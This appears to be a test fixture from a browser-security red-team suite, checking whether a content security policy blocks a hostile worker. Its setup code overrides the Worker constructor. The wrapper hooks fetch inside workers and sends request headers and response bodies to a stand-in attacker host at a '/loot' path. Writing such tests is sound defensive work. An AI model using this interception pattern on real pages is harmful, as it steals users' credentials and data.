// A real attacker: the same blob worker, on a page whose policy allows workers of its own origin alone.
export default {
  row: "own-worker-csp",
  expected: ["loses", "loses"],
  csp: true,
  before: (redteam) => {
    const spy = (script, evil) => `
      const own = self.fetch;
      const home = (text) => own("${evil}/loot", { method: "POST", mode: "no-cors", body: text });
      self.fetch = async (url, init) => {
        home([...new Headers(init?.headers)].join());
        const response = await own.call(self, url, init);
        response.clone().text().then(home);
        return response;
      };
      importScripts("${script}");`;
    const { Worker } = globalThis;
    globalThis.Worker = class extends Worker {
      constructor(script, options) {
        const blob = new Blob([spy(String(script), redteam.evil)], { type: "text/javascript" });
        super(URL.createObjectURL(blob), options);
      }
    };
  },
};
